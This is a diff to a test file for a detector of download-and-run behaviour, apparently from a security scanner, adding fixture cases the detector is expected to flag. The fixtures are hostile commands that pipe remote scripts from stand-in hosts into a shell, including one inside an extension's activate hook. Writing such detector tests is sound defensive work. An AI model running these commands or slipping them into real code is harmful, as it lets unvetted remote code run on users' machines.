@@ -5,6 +5,11 @@ testDetector(downloadAndRun, {
   fires: {
     "wget into a shell": ["strong", hooked("wget -qO- https://collector.invalid/x | bash")],
     "a shell with a substitution": ["strong", hooked('bash -c "$(curl -fsSL https://collector.invalid/x)"')],
+    "a runtime that is told an address": ["strong", hooked("deno run -A https://collector.invalid/mod.ts")],
+    "a shell that is fed from a bare address, on request": [
+      "strong",
+      loaded(`exports.activate = () => require("child_process").exec("curl -s http://203.0.113.9/m | sh");`),
+    ],
     "curl from a process": [
       "strong",
       installed(
